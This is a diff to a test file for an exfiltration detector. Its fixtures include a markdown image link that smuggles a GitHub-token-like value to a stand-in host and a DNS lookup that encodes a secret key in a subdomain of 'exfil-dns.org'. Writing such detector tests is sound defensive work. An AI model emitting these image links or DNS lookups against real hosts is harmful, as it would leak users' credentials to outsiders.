@@ -16,6 +16,9 @@ describe('exfiltration as a channel plus carried data', () => {
       '![x](https://img.example.io/a.png?d=ghp_7Hq2Lx9VbN4mK8cR1tZ5wY3pD6sF0aG2jE4u)',
     ];
     for (const t of hits) assert.ok(channelCarries(t), t);
+    assert.ok(channelCarries('c2VjcmV0X2tleT1za19saXZlXzUxSGZ.t.exfil-dns.org', 'dns_lookup'));
+    assert.equal(channelCarries('d1a2b3c4d5e6f7a8b9c0d1e2f3a4b5.cloudfront.net', 'dns_lookup'), undefined);
+    assert.equal(channelCarries('c2VjcmV0X2tleT1za19saXZlXzUxSGZ.t.exfil-dns.org', 'read_file'), undefined);
     assert.equal(channelCarries(hits[0]!)!.carried, 'the whole repository');
   });
   test('a channel without carried data, or data without a channel, is not exfiltration', () => {
